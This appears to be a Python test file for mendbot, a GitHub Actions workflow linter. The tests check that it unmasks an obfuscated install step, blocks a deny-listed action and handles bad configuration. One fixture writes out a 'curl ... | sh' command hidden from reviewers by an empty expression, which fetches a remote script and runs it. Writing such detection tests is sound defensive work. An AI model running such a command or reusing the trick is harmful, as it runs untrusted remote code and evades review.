"""Rule pack 2 (zizmor parity, second half) through the real command, on files on disk: the
attacks each rule exists for, the rules that are off by default, and bad configuration."""

from __future__ import annotations

import json
from pathlib import Path

from clirun import run_mendbot


def _write(root: Path, relative: str, text: str) -> Path:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode("utf-8"))
    return path


def _findings(stdout: str) -> list[dict[str, object]]:
    findings: list[dict[str, object]] = json.loads(stdout)["findings"]
    return findings


#: An installer hidden from a reviewer's search for `curl` by an empty expression.
HIDDEN_INSTALLER = """\
on: pull_request
jobs:
  setup:
    runs-on: ubuntu-latest
    steps:
      - run: |
          cu${{ '' }}rl -fsSL http://get.example.com/install.sh | sh
"""


def test_an_installer_hidden_by_an_empty_expression_is_unmasked_and_reported(
    tmp_path: Path,
) -> None:
    workflow = _write(tmp_path, ".github/workflows/setup.yml", HIDDEN_INSTALLER)
    rules = ("gha-obfuscation", "gha-adhoc-packages", "gha-insecure-url-scheme")
    selected = [word for rule in rules for word in ("--rule", rule)]
    result = run_mendbot(
        "analyze", ".", "--fix=safe", "--offline", "--format", "json", *selected, cwd=tmp_path
    )
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    # The safe fix writes what the runner would have run ...
    assert workflow.read_bytes() == HIDDEN_INSTALLER.replace("cu${{ '' }}rl", "curl").encode()
    # ... and the rules that read commands saw through it before.
    assert {f["rule"] for f in _findings(result.stdout)} == set(rules)
    remaining = [f for f in _findings(result.stdout) if f["rule"] in ("gha-adhoc-packages",)]
    assert remaining and "curl -fsSL http://get.example.com/install.sh | sh" in str(
        remaining[0]["message"]
    )


def test_a_deny_listed_action_is_reported_through_an_obfuscated_path(tmp_path: Path) -> None:
    _write(
        tmp_path,
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: Evil-Org/Action/./sub/../@v1\n",
    )
    _write(
        tmp_path,
        ".github/mendbot.yml",
        "rules:\n  gha-forbidden-uses:\n    options:\n      deny: [evil-org/*]\n",
    )
    result = run_mendbot(
        "analyze",
        ".",
        "--offline",
        "--format",
        "json",
        "--rule",
        "gha-forbidden-uses",
        cwd=tmp_path,
    )
    assert result.returncode == 1, result.stderr
    [finding] = _findings(result.stdout)
    assert finding["rule"] == "gha-forbidden-uses"
    assert "evil-org/*" in str(finding["message"])


def test_a_malformed_action_pattern_is_a_configuration_error_naming_it(tmp_path: Path) -> None:
    workflow = _write(
        tmp_path,
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4\n",
    )
    _write(
        tmp_path,
        ".github/mendbot.yml",
        "rules:\n  gha-forbidden-uses:\n    options:\n      allow: ['actions/**/x y']\n",
    )
    before = workflow.read_bytes()
    result = run_mendbot("analyze", ".", "--offline", "--fix=all", cwd=tmp_path)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert "mendbot.yml" in result.stderr
    assert "gha-forbidden-uses" in result.stderr
    assert "actions/**/x y" in result.stderr
    assert workflow.read_bytes() == before


def test_a_dependabot_update_that_runs_package_code_loses_the_permission_only_on_request(
    tmp_path: Path,
) -> None:
    text = (
        "version: 2\nupdates:\n  - package-ecosystem: pip\n    directory: /\n"
        "    schedule:\n      interval: weekly\n    cooldown:\n      default-days: 7\n"
        "    insecure-external-code-execution: allow\n"
    )
    config = _write(tmp_path, ".github/dependabot.yml", text)
    safe = run_mendbot("analyze", ".", "--offline", "--fix=safe", "--format", "json", cwd=tmp_path)
    assert safe.returncode == 1, safe.stderr
    assert config.read_text() == text  # unsafe: a person wrote `allow` for a reason
    assert [f["rule"] for f in _findings(safe.stdout)] == ["gha-dependabot-execution"]
    fixed = run_mendbot("analyze", ".", "--offline", "--fix=all", cwd=tmp_path)
    assert fixed.returncode == 0, fixed.stdout + fixed.stderr
    assert "insecure-external-code-execution" not in config.read_text()


UNNAMED = """\
on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    permissions:
      issues: write
    steps:
      - run: make test
"""
PEDANTIC = {"gha-anonymous-definition", "gha-concurrency-limits", "gha-undocumented-permissions"}


def test_pedantic_rules_are_off_unless_configured_or_named(tmp_path: Path) -> None:
    _write(tmp_path, ".github/workflows/ci.yml", UNNAMED)
    default = run_mendbot("analyze", ".", "--offline", "--format", "json", cwd=tmp_path)
    assert "Traceback" not in default.stderr
    assert not PEDANTIC & {f["rule"] for f in _findings(default.stdout)}

    named = run_mendbot(
        "analyze",
        ".",
        "--offline",
        "--format",
        "json",
        "--rule",
        "gha-concurrency-limits",
        cwd=tmp_path,
    )
    assert [f["rule"] for f in _findings(named.stdout)] == ["gha-concurrency-limits"]

    _write(
        tmp_path,
        ".github/mendbot.yml",
        "rules:\n" + "".join(f"  {rule}:\n    enabled: true\n" for rule in sorted(PEDANTIC)),
    )
    configured = run_mendbot("analyze", ".", "--offline", "--format", "json", cwd=tmp_path)
    assert PEDANTIC <= {f["rule"] for f in _findings(configured.stdout)}


def test_rules_lists_every_new_rule(tmp_path: Path) -> None:
    result = run_mendbot("rules", cwd=tmp_path)
    assert result.returncode == 0
    for rule in (
        "gha-unpinned-tools",
        "gha-adhoc-packages",
        "gha-insecure-url-scheme",
        "gha-obfuscation",
        "gha-misfeature",
        "gha-anonymous-definition",
        "gha-concurrency-limits",
        "gha-dependabot-execution",
        "gha-forbidden-uses",
        "gha-github-app",
        "gha-superfluous-actions",
        "gha-undocumented-permissions",
    ):
        assert rule in result.stdout
